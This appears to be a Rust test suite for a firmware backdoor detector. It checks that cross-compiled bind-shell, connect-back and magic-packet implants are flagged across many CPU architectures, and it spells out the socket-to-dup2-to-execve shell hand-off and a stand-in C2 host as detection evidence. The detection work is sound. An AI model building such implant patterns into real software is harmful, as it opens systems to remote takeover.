//! Behaviour, boot model, provenance and web UI checks, on real cross-compiled implants
//! (tests/implants: C source, build.sh, the stripped binaries) packed into squashfs images
//! with a stock-looking tree, and on hand-written ELF files for the cases no compiler here
//! produces (Go, UPX).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test stops at the first failed assumption"
)]

mod common;

use common::*;
use netvet_analyze::behaviour::{self, Behaviour, Cap, Linkage};
use netvet_model::{kinds, Finding, Severity};
use std::path::Path;

const IMPLANTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/implants/bin");
const ARCHES: &[&str] = &["mips", "mipsel", "arm", "aarch64", "x86_64"];

fn implant(name: &str) -> Vec<u8> {
    std::fs::read(Path::new(IMPLANTS).join(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn verdict_kinds(path: &str, data: &[u8]) -> Vec<(&'static str, Severity, String)> {
    let p = behaviour::profile(path, data).unwrap_or_else(|| panic!("{path}: not profiled"));
    behaviour::judge(&p)
        .into_iter()
        .map(|v| (v.kind, v.severity, v.evidence))
        .collect()
}

#[test]
fn every_implant_on_every_arch_static_and_dynamic() {
    for arch in ARCHES {
        for link in ["static", "dynamic"] {
            let name = format!("bindshell-{arch}-{link}");
            let data = implant(&name);
            let p = behaviour::profile(&name, &data).unwrap();
            let want = if link == "static" {
                Linkage::Static
            } else {
                Linkage::Dynamic
            };
            assert_eq!(p.linkage, want, "{name}");
            for c in [
                Cap::Socket,
                Cap::Bind,
                Cap::Listen,
                Cap::Accept,
                Cap::Dup,
                Cap::Exec,
            ] {
                assert!(p.has(c), "{name}: missing {c:?}: {:?}", p.caps);
            }
            let v = verdict_kinds(&name, &data);
            assert_eq!(v[0].0, kinds::BACKDOOR_BIND_SHELL, "{name}: {v:?}");
            assert_eq!(v[0].1, Severity::High, "{name}");
            if link == "static" {
                assert!(v[0].2.contains("syscall"), "{name}: {}", v[0].2);
            } else {
                assert!(v[0].2.contains("imports socket"), "{name}: {}", v[0].2);
            }
            assert!(v[0].2.contains("\"/bin/sh\""), "{name}: {}", v[0].2);

            let name = format!("connectback-{arch}-{link}");
            let data = implant(&name);
            let v = verdict_kinds(&name, &data);
            assert_eq!(v[0].0, kinds::BACKDOOR_CONNECT_BACK, "{name}: {v:?}");
            assert_eq!(v[0].1, Severity::High, "{name}");
            assert!(v[0].2.contains("203.0.113.7"), "{name}: {}", v[0].2);
            assert!(
                v[0].2.contains("update.c2.example.net"),
                "{name}: {}",
                v[0].2
            );
            let ind: Vec<_> = v
                .iter()
                .filter(|x| x.0 == kinds::INDICATOR_NETWORK)
                .collect();
            assert_eq!(ind.len(), 1, "{name}: {v:?}");
            assert_eq!(ind[0].1, Severity::Info);

            let name = format!("magicauth-{arch}-{link}");
            let data = implant(&name);
            let v = verdict_kinds(&name, &data);
            assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS, "{name}: {v:?}");
            assert_eq!(v[0].1, Severity::High, "{name}");
            assert!(v[0].2.contains("\"Password:\""), "{name}: {}", v[0].2);
            assert_eq!(v.len(), 1, "{name}: {v:?}");
        }
    }
}

#[test]
fn static_syscall_numbers_named_per_arch() {
    // the connect syscall number of each ABI, found in the stub
    for (arch, nr) in [
        ("mips", 4170),
        ("mipsel", 4170),
        ("arm", 283),
        ("aarch64", 203),
        ("x86_64", 42),
    ] {
        let data = implant(&format!("connectback-{arch}-static"));
        let caps = behaviour::syscall_caps(&data);
        let ev = caps
            .get(&Cap::Connect)
            .unwrap_or_else(|| panic!("{arch}: {caps:?}"));
        assert!(
            ev.starts_with(&format!("syscall {nr} (connect)")),
            "{arch}: {ev}"
        );
        assert!(!caps.contains_key(&Cap::Listen), "{arch}: {caps:?}");
    }
}

/// Static builds for the ABIs whose stubs need their own decoding: Thumb-1 (ARMv5TE),
/// Thumb-2 (ARMv7-A), MIPS n32 and n64 (see implants/build.sh), with the connect number each
/// ABI uses.
const STATIC_ONLY: &[(&str, u32)] = &[
    ("thumb", 283),
    ("thumb2", 283),
    ("mipsn32", 6041),
    ("mips64", 5041),
];

#[test]
fn thumb_and_mips64_abis_static_implants() {
    for (arch, connect) in STATIC_ONLY {
        let name = format!("bindshell-{arch}-static");
        let data = implant(&name);
        let p = behaviour::profile(&name, &data).unwrap();
        assert_eq!(p.linkage, Linkage::Static, "{name}");
        for c in [
            Cap::Socket,
            Cap::Bind,
            Cap::Listen,
            Cap::Accept,
            Cap::Dup,
            Cap::Exec,
        ] {
            assert!(p.has(c), "{name}: missing {c:?}: {:?}", p.caps);
        }
        assert!(!p.has(Cap::Connect), "{name}: {:?}", p.caps);
        let v = verdict_kinds(&name, &data);
        assert_eq!(v[0].0, kinds::BACKDOOR_BIND_SHELL, "{name}: {v:?}");
        assert_eq!(v[0].1, Severity::High, "{name}");
        assert!(
            v[0].2.contains("static binary, syscall stubs"),
            "{name}: {}",
            v[0].2
        );

        let name = format!("connectback-{arch}-static");
        let data = implant(&name);
        let caps = behaviour::syscall_caps(&data);
        let ev = caps
            .get(&Cap::Connect)
            .unwrap_or_else(|| panic!("{name}: {caps:?}"));
        assert!(
            ev.starts_with(&format!("syscall {connect} (connect) at 0x")),
            "{name}: {ev}"
        );
        assert!(!caps.contains_key(&Cap::Listen), "{name}: {caps:?}");
        let v = verdict_kinds(&name, &data);
        assert_eq!(v[0].0, kinds::BACKDOOR_CONNECT_BACK, "{name}: {v:?}");
        assert_eq!(v[0].1, Severity::High, "{name}");
        assert!(v[0].2.contains("203.0.113.7"), "{name}: {}", v[0].2);

        let name = format!("magicauth-{arch}-static");
        let data = implant(&name);
        let v = verdict_kinds(&name, &data);
        assert_eq!(v.len(), 1, "{name}: {v:?}");
        assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS, "{name}: {v:?}");
        assert_eq!(v[0].1, Severity::High, "{name}");
    }
}

/// Every static build: the five ABIs built static and dynamic plus the static-only ones.
fn static_arches() -> Vec<&'static str> {
    ARCHES
        .iter()
        .copied()
        .chain(STATIC_ONLY.iter().map(|(a, _)| *a))
        .collect()
}

#[test]
fn stub_tracker_follows_the_socket_into_the_shell() {
    for arch in static_arches() {
        for (src, step) in [
            ("connectback", "-> connect at 0x"),
            ("bindshell", "-> accept at 0x"),
            ("magicauth", "-> accept at 0x"),
        ] {
            let name = format!("{src}-{arch}-static");
            let data = implant(&name);
            let s = behaviour::stub_scan(&data);
            let h = s
                .handoff
                .as_deref()
                .unwrap_or_else(|| panic!("{name}: no hand-off: {s:?}"));
            assert!(
                h.starts_with("socket handed to shell: socket at 0x"),
                "{name}: {h}"
            );
            assert!(h.contains(step), "{name}: {h}");
            assert!(
                h.contains("-> dup2 onto fd 0, 1, 2 -> execve at 0x"),
                "{name}: {h}"
            );
            assert!(s.not_handed.is_none(), "{name}");
        }
        // bind shell and connect-back verdicts cite the flow
        let name = format!("connectback-{arch}-static");
        let v = verdict_kinds(&name, &implant(&name));
        assert_eq!(v[0].0, kinds::BACKDOOR_CONNECT_BACK, "{name}: {v:?}");
        assert!(
            v[0].2.contains("socket handed to shell"),
            "{name}: {}",
            v[0].2
        );

        // a program whose stdio goes to another descriptor (what read() returned) while it
        // also connects: every capability, no hand-off
        let name = format!("hookrunner-{arch}-static");
        let data = implant(&name);
        let s = behaviour::stub_scan(&data);
        assert!(s.handoff.is_none(), "{name}: {s:?}");
        let n = s
            .not_handed
            .as_deref()
            .unwrap_or_else(|| panic!("{name}: {s:?}"));
        assert!(n.starts_with("dup2 at 0x"), "{name}: {n}");
        let v = verdict_kinds(&name, &data);
        assert_eq!(v.len(), 1, "{name}: {v:?}");
        assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS, "{name}: {v:?}");
        assert_eq!(v[0].1, Severity::Low, "{name}");
        assert!(v[0].2.contains("not the socket"), "{name}: {}", v[0].2);
    }
}

#[test]
fn static_packet_socket_magic_packet_listener() {
    for arch in static_arches() {
        let name = format!("magicpacket-{arch}-static");
        let data = implant(&name);
        let p = behaviour::profile(&name, &data).unwrap();
        let raw = p
            .caps
            .get(&Cap::RawCapture)
            .unwrap_or_else(|| panic!("{name}: {:?}", p.caps));
        assert!(
            raw.contains("(socket) at 0x") && raw.ends_with("with AF_PACKET"),
            "{name}: {raw}"
        );
        let v = verdict_kinds(&name, &data);
        assert_eq!(v.len(), 1, "{name}: {v:?}");
        assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS, "{name}");
        assert_eq!(v[0].1, Severity::Medium, "{name}");
        assert!(
            v[0].2.contains("runs command lines (shell \"/bin/sh\""),
            "{name}: {}",
            v[0].2
        );
    }
    // an ordinary TCP client's socket is not raw capture
    let caps = behaviour::syscall_caps(&implant("connectback-mips-static"));
    assert!(!caps.contains_key(&Cap::RawCapture), "{caps:?}");
}

/// The dynamic builds import `socket` only: the raw socket is seen at the call site, through
/// the PLT stub (ARM, AArch64, x86-64) or the GOT slot (MIPS `lw t9, N(gp)` + `jalr t9`)
/// of the import, with the family in the first argument register.
#[test]
fn dynamic_magic_packet_listener_from_the_socket_call() {
    // (arch, address of the call to socket: objdump of the committed builds)
    for (arch, site) in [
        ("mips", 0x5fc),
        ("mipsel", 0x5fc),
        ("arm", 0x47c),
        ("aarch64", 0x734),
        ("x86_64", 0x10a1),
    ] {
        let name = format!("magicpacket-{arch}-dynamic");
        let data = implant(&name);
        let p = behaviour::profile(&name, &data).unwrap();
        assert_eq!(p.linkage, Linkage::Dynamic, "{name}");
        assert_eq!(
            p.caps.get(&Cap::RawCapture).map(String::as_str),
            Some(format!("call socket at {site:#x} with AF_PACKET").as_str()),
            "{name}: {:?}",
            p.caps
        );
        let path = format!("usr/sbin/{name}");
        let v = behaviour::judge(&p);
        assert_eq!(v.len(), 1, "{name}: {v:?}");
        let f = behaviour::finding(&path, &v[0], None);
        assert_eq!(f.kind, kinds::BACKDOOR_SUSPICIOUS, "{name}");
        assert_eq!(f.severity, Severity::Medium, "{name}");
        assert_eq!(f.path.as_deref(), Some(path.as_str()));
        assert!(
            f.evidence.starts_with(&format!(
                "dynamic imports: raw capture (call socket at {site:#x} with AF_PACKET); command execution (imports execve)"
            )),
            "{name}: {}",
            f.evidence
        );
        assert!(
            f.evidence.contains("runs command lines (shell \"/bin/sh\""),
            "{name}: {}",
            f.evidence
        );
        // the packet socket's descriptor reaches read(), then execve runs
        let flow = p.packet_exec.as_deref().unwrap_or_default();
        assert!(
            flow.starts_with(&format!(
                "packet to program: call socket at {site:#x} with AF_PACKET -> call read at 0x"
            )) && flow.contains(" on it -> call execve at 0x"),
            "{name}: {flow}"
        );
        assert!(f.evidence.contains(flow), "{name}: {}", f.evidence);
        // without that flow a call-site raw socket plus a shell string is what DHCP and
        // PPPoE daemons have: no finding
        let mut daemon = p.clone();
        daemon.packet_exec = None;
        assert!(behaviour::judge(&daemon).is_empty(), "{name}");
    }
    // the other call paths: MIPS non-PIC `jal` to a .plt stub, x86-64 -fno-plt `call
    // *N(%rip)` through the GOT slot, Thumb-2 `blx` to the ARM PLT stub
    for (variant, site) in [
        ("mipsplt", 0x4005b8),
        ("x86_64noplt", 0x1061),
        ("thumb2", 0x47e),
        ("armlongplt", 0x49c),
    ] {
        let name = format!("magicpacket-{variant}-dynamic");
        let p = behaviour::profile(&name, &implant(&name)).unwrap();
        assert_eq!(
            p.caps.get(&Cap::RawCapture).map(String::as_str),
            Some(format!("call socket at {site:#x} with AF_PACKET").as_str()),
            "{name}: {:?}",
            p.caps
        );
        let v = behaviour::judge(&p);
        assert_eq!(
            (v[0].kind, v[0].severity),
            (kinds::BACKDOOR_SUSPICIOUS, Severity::Medium),
            "{name}: {v:?}"
        );
        let name = format!("bindshell-{variant}-dynamic");
        let p = behaviour::profile(&name, &implant(&name)).unwrap();
        let h = p.handoff.as_deref().unwrap_or_default();
        assert!(
            h.starts_with("socket handed to shell: call socket at 0x")
                && h.contains(
                    "returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x"
                ),
            "{name}: {h}"
        );
    }
    // sstripped (no section headers, as much firmware is): the targets come from the
    // dynamic segment alone
    for (arch, site) in [("mips", 0x5fc), ("arm", 0x47c), ("x86_64", 0x10a1)] {
        let name = format!("magicpacket-{arch}-dynamic");
        let mut data = implant(&name);
        // e_shoff, e_shnum and e_shstrndx
        let (shoff, shnum) = if data[4] == 1 {
            (0x20..0x24, 0x30..0x34)
        } else {
            (0x28..0x30, 0x3c..0x40)
        };
        data[shoff].fill(0);
        data[shnum].fill(0);
        // the imports too: the ARM and x86-64 builds' GNU hash tables hold one symbol (they
        // export nothing); the relocations name the undefined ones
        let h = netvet_analyze::elf::inspect(&data).unwrap();
        assert!(h.no_sections, "{name}");
        for i in ["socket", "read", "execve"] {
            assert!(h.imports.iter().any(|x| x == i), "{name}: {:?}", h.imports);
        }
        let p = behaviour::profile(&name, &data).unwrap();
        assert_eq!(
            p.caps.get(&Cap::RawCapture).map(String::as_str),
            Some(format!("call socket at {site:#x} with AF_PACKET").as_str()),
            "{name} without section headers: {:?}",
            p.caps
        );
    }
    // cut short anywhere: no panic
    for arch in ARCHES {
        let data = implant(&format!("magicpacket-{arch}-dynamic"));
        for end in (0..data.len()).step_by(97) {
            let _ = behaviour::import_call_scan(&data[..end]);
        }
    }
    // an ordinary TCP client's socket call is not raw capture
    for arch in ARCHES {
        let p = behaviour::profile("c", &implant(&format!("connectback-{arch}-dynamic"))).unwrap();
        assert!(!p.has(Cap::RawCapture), "{arch}: {:?}", p.caps);
    }
}

/// ARM BE8 images (big-endian data, little-endian instructions, `EF_ARM_BE8` in e_flags):
/// the instructions are decoded little-endian, the literal pools big-endian.
#[test]
fn arm_be8_instructions_are_little_endian() {
    for (prog, want) in [
        ("bindshell", kinds::BACKDOOR_BIND_SHELL),
        ("connectback", kinds::BACKDOOR_CONNECT_BACK),
        ("magicpacket", kinds::BACKDOOR_SUSPICIOUS),
    ] {
        let name = format!("{prog}-armbe8-static");
        let mut data = implant(&name);
        // big-endian ELF with the BE8 flag
        assert_eq!(data[5], 2, "{name}");
        assert_eq!(data[0x24..0x28], [0x05, 0x80, 0x02, 0x00], "{name}");
        let s = behaviour::stub_scan(&data);
        let socket = s
            .caps
            .get(&Cap::Socket)
            .unwrap_or_else(|| panic!("{name}: {s:?}"));
        assert!(
            socket.starts_with("syscall 281 (socket) at 0x"),
            "{name}: {socket}"
        );
        let v = verdict_kinds(&name, &data);
        assert_eq!(v[0].0, want, "{name}: {v:?}");
        if prog == "magicpacket" {
            assert_eq!(v[0].1, Severity::Medium, "{name}");
            assert!(v[0].2.contains("(socket) at 0x"), "{name}: {}", v[0].2);
        } else {
            assert_eq!(v[0].1, Severity::High, "{name}");
            assert!(
                v[0].2.contains("socket handed to shell: socket at 0x"),
                "{name}: {}",
                v[0].2
            );
        }
        // the same bytes read as big-endian instructions (the flag cleared): no stub
        data[0x25] = 0x00;
        let s = behaviour::stub_scan(&data);
        assert!(!s.caps.contains_key(&Cap::Socket), "{name}: {s:?}");
    }
}

/// The socket-to-shell hand-off through import calls: the result register of the call to
/// `socket` (and `accept`) followed into `dup2` onto 0, 1, 2 and `execve`.
#[test]
fn dynamic_socket_handed_to_shell_through_import_calls() {
    // (implant, socket call, connect/accept call, execve call)
    for (name, socket, step, exec) in [
        (
            "bindshell-mips-dynamic",
            0x664,
            "call accept at 0x6c4 returns the connection",
            0x720,
        ),
        (
            "bindshell-mipsel-dynamic",
            0x664,
            "call accept at 0x6c4 returns the connection",
            0x720,
        ),
        (
            "bindshell-arm-dynamic",
            0x534,
            "call accept at 0x574 returns the connection",
            0x5ac,
        ),
        (
            "bindshell-aarch64-dynamic",
            0x804,
            "call accept at 0x83c returns the connection",
            0x874,
        ),
        (
            "connectback-arm-dynamic",
            0x4f8,
            "call connect at 0x540",
            0x584,
        ),
        (
            "connectback-aarch64-dynamic",
            0x7b0,
            "call connect at 0x7f8",
            0x834,
        ),
    ] {
        let data = implant(name);
        let p = behaviour::profile(name, &data).unwrap();
        assert_eq!(
            p.handoff.as_deref(),
            Some(
                format!(
                    "socket handed to shell: call socket at {socket:#x} -> {step} -> dup2 onto fd 0, 1, 2 -> call execve at {exec:#x} running \"/bin/sh\""
                )
                .as_str()
            ),
            "{name}"
        );
        // the flow holds whatever the number of imports: a large daemon with this flow is
        // still a bind shell / connect-back client
        let mut big = p.clone();
        big.imports = 400;
        big.interactive = None;
        let v = behaviour::judge(&big);
        assert_eq!(v[0].severity, Severity::High, "{name}: {v:?}");
        assert!(
            v[0].evidence
                .contains("socket handed to shell: call socket at"),
            "{name}: {}",
            v[0].evidence
        );
    }
    // every dynamic bind shell and connect-back build has the flow
    for arch in ARCHES {
        for prog in ["bindshell", "connectback"] {
            let name = format!("{prog}-{arch}-dynamic");
            let p = behaviour::profile(&name, &implant(&name)).unwrap();
            assert!(p.handoff.is_some(), "{name}: {:?}", p.not_handed);
        }
        // the hook runner dup2s what read() returned: not the socket
        let name = format!("hookrunner-{arch}-dynamic");
        let p = behaviour::profile(&name, &implant(&name)).unwrap();
        assert!(p.handoff.is_none(), "{name}: {:?}", p.handoff);
        let n = p.not_handed.as_deref().unwrap_or_default();
        assert!(
            n.starts_with("call dup2 at 0x") && n.contains(" of what call read at 0x"),
            "{name}: {n}"
        );
        // the size rule alone called it a connect-back client
        let v = behaviour::judge(&p);
        assert_eq!(
            (v[0].kind, v[0].severity),
            (kinds::BACKDOOR_SUSPICIOUS, Severity::Low),
            "{name}: {v:?}"
        );
        assert!(
            v[0].evidence.contains("not the socket"),
            "{name}: {}",
            v[0].evidence
        );
        let mut no_flow = p.clone();
        no_flow.not_handed = None;
        assert_eq!(
            behaviour::judge(&no_flow)[0].kind,
            kinds::BACKDOOR_CONNECT_BACK,
            "{name}"
        );
    }
}

#[test]
fn syscall_numbers_passed_to_a_routine() {
    // every system call through one routine that takes the number as its second argument
    // (implants/sys.h VIA_ROUTINE, the shape of musl's __syscall_cp_asm): no number is
    // loaded next to a trap, the call sites carry them
    for (arch, connect) in [
        ("mips", 4170),
        ("arm", 283),
        ("thumb2", 283),
        ("aarch64", 203),
        ("x86_64", 42),
    ] {
        let name = format!("connectback-{arch}-routine");
        let data = implant(&name);
        let caps = behaviour::syscall_caps(&data);
        let ev = caps
            .get(&Cap::Connect)
            .unwrap_or_else(|| panic!("{name}: {caps:?}"));
        assert!(
            ev.starts_with(&format!(
                "syscall {connect} (connect) through the syscall routine at 0x"
            )),
            "{name}: {ev}"
        );
        assert!(
            ev.contains("(number in argument 2), called at 0x"),
            "{name}: {ev}"
        );
        for c in [Cap::Socket, Cap::Dup, Cap::Exec] {
            assert!(caps.contains_key(&c), "{name}: missing {c:?}: {caps:?}");
        }
        assert!(!caps.contains_key(&Cap::Listen), "{name}: {caps:?}");
        let v = verdict_kinds(&name, &data);
        assert_eq!(v[0].0, kinds::BACKDOOR_CONNECT_BACK, "{name}: {v:?}");
    }
}

/// i386 passes the arguments on the stack: the call sites' pushes and the routine's
/// `mov eax, [ebp+0xc]` (its second argument) are followed.
#[test]
fn i386_syscall_routine_with_stack_arguments() {
    let caps = behaviour::syscall_caps(&implant("connectback-i386-static"));
    let ev = caps
        .get(&Cap::Connect)
        .map(String::as_str)
        .unwrap_or_default();
    assert!(ev.starts_with("syscall 362 (connect) at 0x"), "{caps:?}");
    let data = implant("connectback-i386-routine");
    let caps = behaviour::syscall_caps(&data);
    assert_eq!(
        caps.get(&Cap::Connect).map(String::as_str),
        Some("syscall 362 (connect) through the syscall routine at 0x804910d (number in argument 2), called at 0x8049094"),
        "{caps:?}"
    );
    for (c, nr) in [(Cap::Socket, 359), (Cap::Dup, 63), (Cap::Exec, 11)] {
        let ev = caps.get(&c).map(String::as_str).unwrap_or_default();
        assert!(
            ev.starts_with(&format!("syscall {nr} (")),
            "{c:?}: {caps:?}"
        );
    }
    assert!(!caps.contains_key(&Cap::Listen), "{caps:?}");
    for name in ["connectback-i386-static", "connectback-i386-routine"] {
        let v = verdict_kinds(name, &implant(name));
        assert_eq!(
            (v[0].0, v[0].1),
            (kinds::BACKDOOR_CONNECT_BACK, Severity::High),
            "{name}: {v:?}"
        );
    }
}

/// Static builds against a real C library (glibc 2.36, musl 1.2.3): the program calls the
/// library's functions, which the analyzer names by byte signature
/// (`rules/libsigs/libc.sigs`); the calls then carry the socket-to-shell flow as import
/// calls do. Addresses checked against `nm` of unstripped builds of the same sources.
#[test]
fn static_c_library_calls_recognised_by_signature() {
    // (implant, verdict kind, recognised functions and their addresses, flow)
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, u64)], &'a str);
    let cases: &[Case] = &[
        (
            "bindshell-mips-glibcstatic",
            "backdoor.bind-shell",
            &[("socket", 0x421b9c), ("accept", 0x4219f0), ("dup2", 0x41e8dc), ("execve", 0x41d73c)],
            "socket handed to shell: call socket at 0x400574 -> call accept at 0x4005d4 returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x400630 running \"/bin/sh\" (library functions recognised by signature)",
        ),
        (
            "bindshell-arm-glibcstatic",
            "backdoor.bind-shell",
            &[("socket", 0x2de80), ("accept", 0x2dd74), ("dup2", 0x2b530), ("execve", 0x2a330)],
            "socket handed to shell: call socket at 0x1042c -> call accept at 0x1046c returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x104a4 running \"/bin/sh\" (library functions recognised by signature)",
        ),
        (
            "bindshell-x86_64-glibcstatic",
            "backdoor.bind-shell",
            &[("socket", 0x432be0), ("accept", 0x432ae0), ("dup2", 0x430860), ("execve", 0x42fd60)],
            "socket handed to shell: call socket at 0x401532 -> call accept at 0x401565 returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x40159b running \"/bin/sh\" (library functions recognised by signature)",
        ),
        (
            "bindshell-x86_64-muslstatic",
            "backdoor.bind-shell",
            &[("socket", 0x401600), ("accept", 0x401560), ("dup2", 0x401710), ("execve", 0x4016c0)],
            "socket handed to shell: call socket at 0x40106d -> call accept at 0x4010b3 returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x4010e9 running \"/bin/sh\" (library functions recognised by signature)",
        ),
        (
            "connectback-mipsel-glibcstatic",
            "backdoor.connect-back",
            &[("socket", 0x423a5c), ("connect", 0x423930), ("dup2", 0x42031c), ("system", 0x408884)],
            "socket handed to shell: call socket at 0x400550 -> call connect at 0x4005bc -> dup2 onto fd 0, 1, 2 -> call system at 0x400618 running \"/bin/sh -i\" (library functions recognised by signature)",
        ),
        (
            "connectback-aarch64-glibcstatic",
            "backdoor.connect-back",
            &[("socket", 0x41d940), ("connect", 0x41d840), ("dup2", 0x41acb0), ("system", 0x406d50)],
            "socket handed to shell: call socket at 0x400504 -> call connect at 0x400550 -> dup2 onto fd 0, 1, 2 -> call system at 0x400584 running \"/bin/sh -i\" (library functions recognised by signature)",
        ),
        (
            "connectback-i386-glibcstatic",
            "backdoor.connect-back",
            &[("socket", 0x8070f90), ("connect", 0x8070ef0), ("dup2", 0x806e560), ("system", 0x8052250)],
            "socket handed to shell: call socket at 0x8049592 -> call connect at 0x80495d7 -> dup2 onto fd 0, 1, 2 -> call system at 0x8049611 (library functions recognised by signature)",
        ),
        (
            "connectback-mips-glibcstatic",
            "backdoor.connect-back",
            &[("socket", 0x421c0c), ("connect", 0x421ae0), ("dup2", 0x41e9cc), ("execl", 0x41d730), ("execve", 0x447e5c)],
            "socket handed to shell: call socket at 0x400548 -> call connect at 0x4005b4 -> dup2 onto fd 0, 1, 2 -> call execl at 0x40061c running \"/bin/sh\" (library functions recognised by signature)",
        ),
        (
            "connectback-arm-glibcstatic",
            "backdoor.connect-back",
            &[("socket", 0x2df70), ("connect", 0x2dea4), ("dup2", 0x2b660), ("execl", 0x2a33c), ("execve", 0x50850)],
            "socket handed to shell: call socket at 0x10414 -> call connect at 0x1045c -> dup2 onto fd 0, 1, 2 -> call execl at 0x104a4 running \"/bin/sh\" (library functions recognised by signature)",
        ),
        (
            "connectback-x86_64-muslstatic",
            "backdoor.connect-back",
            &[("socket", 0x4015a0), ("connect", 0x401550), ("dup2", 0x401e20), ("system", 0x401660)],
            "socket handed to shell: call socket at 0x401043 -> call connect at 0x4010a3 -> dup2 onto fd 0, 1, 2 -> call system at 0x4010db running \"/bin/sh -i\" (library functions recognised by signature)",
        ),
    ];
    for (name, kind, funcs, flow) in cases {
        let data = implant(name);
        let lib = behaviour::library_call_scan(&data);
        for (f, addr) in *funcs {
            assert!(
                lib.recognised
                    .iter()
                    .any(|r| r.name == *f && r.addr == *addr),
                "{name}: {f} at {addr:#x} not recognised: {:?}",
                lib.recognised
            );
        }
        // no entry named twice or two names at one address
        let mut addrs: Vec<u64> = lib.recognised.iter().map(|r| r.addr).collect();
        addrs.dedup();
        assert_eq!(addrs.len(), lib.recognised.len(), "{name}");
        assert_eq!(lib.scan.handoff.as_deref(), Some(*flow), "{name}");
        let p = behaviour::profile(name, &data).unwrap();
        assert_eq!(p.linkage, Linkage::Static);
        assert!(
            [Cap::Connect, Cap::Accept]
                .iter()
                .filter_map(|c| p.caps.get(c))
                .any(|e| e.contains("recognised by signature")),
            "{name}: {:?}",
            p.caps
        );
        let v = verdict_kinds(name, &data);
        assert!(
            v.iter().any(|(k, s, e)| k == kind
                && *s == Severity::High
                && e.contains(flow)
                && e.starts_with(
                    "static binary, library calls recognised by signature and syscall stubs: "
                )),
            "{name}: {v:?}"
        );
        if name.contains("connectback")
            && !name.starts_with("connectback-mips-")
            && !name.starts_with("connectback-arm-")
        {
            assert!(
                p.command_line
                    .as_deref()
                    .is_some_and(|c| c.starts_with("call system at 0x")),
                "{name}: {:?}",
                p.command_line
            );
        }
    }
    // the -nostdlib builds carry no C library: nothing recognised, the stubs decide as before
    for a in ARCHES {
        let data = implant(&format!("bindshell-{a}-static"));
        assert!(
            behaviour::library_call_scan(&data).recognised.is_empty(),
            "{a}"
        );
    }
    // a library without its callers: the hookrunner-style program that dup2s what read()
    // returned is not the socket; the musl connect-back with its socket call hidden (the
    // call bytes overwritten) no longer shows the flow
    // execl is named only through the call it makes (its bytes are execlp's): with the
    // call at execl + 204 (ARM `bl execve`) aimed one instruction further, it is not
    let mut data = implant("connectback-arm-glibcstatic");
    let bl = 0x2a33c - 0x10000 + 204;
    assert_eq!(data[bl + 3], 0xeb);
    data[bl] = data[bl].wrapping_add(1);
    let lib = behaviour::library_call_scan(&data);
    assert!(!lib.recognised.iter().any(|r| r.name == "execl"));
    assert!(lib.recognised.iter().any(|r| r.name == "execve"));
    assert!(lib.scan.handoff.is_none());
    let mut data = implant("connectback-x86_64-muslstatic");
    let site = 0x401043 - 0x401000 + 0x1000;
    assert_eq!(data[site], 0xe8);
    data[site..site + 5].copy_from_slice(&[0x90; 5]);
    assert!(behaviour::library_call_scan(&data).scan.handoff.is_none());
}

/// Dynamic call sites of i386 (`call` into the `.plt`, whose stubs jump through `N(%ebx)`
/// in a PIE and through an absolute GOT address without PIC; arguments pushed on the stack)
/// and AArch64 `-fno-plt` (`adrp x; ldr x, [x, #N]; blr x` through the GOT slot).
#[test]
fn i386_and_aarch64_noplt_dynamic_call_sites() {
    let cases: &[(&str, &str)] = &[
        (
            "bindshell-i386-dynamic",
            "socket handed to shell: call socket at 0x10f3 -> call accept at 0x1135 returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x116c",
        ),
        (
            "bindshell-i386nopie-dynamic",
            "socket handed to shell: call socket at 0x80490d7 -> call accept at 0x804910d returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x8049144 running \"/bin/sh\"",
        ),
        (
            "bindshell-aarch64noplt-dynamic",
            "socket handed to shell: call socket at 0x7d4 -> call accept at 0x834 returns the connection -> dup2 onto fd 0, 1, 2 -> call execve at 0x86c running \"/bin/sh\"",
        ),
        (
            "magicpacket-i386-dynamic",
            "packet to program: call socket at 0x10c1 with AF_PACKET -> call read at 0x10e5 on it -> call execve at 0x115a",
        ),
        (
            "magicpacket-i386nopie-dynamic",
            "packet to program: call socket at 0x804909f with AF_PACKET -> call read at 0x80490b7 on it -> call execve at 0x8049120",
        ),
        (
            "magicpacket-aarch64noplt-dynamic",
            "packet to program: call socket at 0x700 with AF_PACKET -> call read at 0x728 on it -> call execve at 0x784",
        ),
    ];
    for (name, flow) in cases {
        let data = implant(name);
        let scan = behaviour::import_call_scan(&data);
        let v = verdict_kinds(name, &data);
        if name.starts_with("bindshell") {
            assert_eq!(scan.handoff.as_deref(), Some(*flow), "{name}");
            assert!(
                v.iter().any(|(k, s, e)| *k == "backdoor.bind-shell"
                    && *s == Severity::High
                    && e.contains(flow)),
                "{name}: {v:?}"
            );
        } else {
            assert_eq!(scan.packet_exec.as_deref(), Some(*flow), "{name}");
            let socket_at = flow.split(" with").next().unwrap_or_default();
            assert_eq!(
                scan.caps.get(&Cap::RawCapture).map(String::as_str),
                Some(
                    format!(
                        "{} with AF_PACKET",
                        &socket_at["packet to program: ".len()..]
                    )
                    .as_str()
                ),
                "{name}"
            );
            assert!(
                v.iter()
                    .any(|(k, s, _)| *k == "backdoor.suspicious" && *s == Severity::Medium),
                "{name}: {v:?}"
            );
        }
    }
    // the accept call taken away (i386 `call accept@plt` and AArch64 `blr x25` made nops):
    // no hand-off, so the size rule decides
    let mut data = implant("bindshell-i386-dynamic");
    assert_eq!(data[0x1135], 0xe8);
    data[0x1135..0x113a].copy_from_slice(&[0x90; 5]);
    assert_eq!(behaviour::import_call_scan(&data).handoff, None);
    let mut data = implant("bindshell-aarch64noplt-dynamic");
    assert_eq!(data[0x834..0x838], [0x20, 0x03, 0x3f, 0xd6]);
    data[0x834..0x838].copy_from_slice(&0xd503_201fu32.to_le_bytes());
    assert_eq!(behaviour::import_call_scan(&data).handoff, None);
}

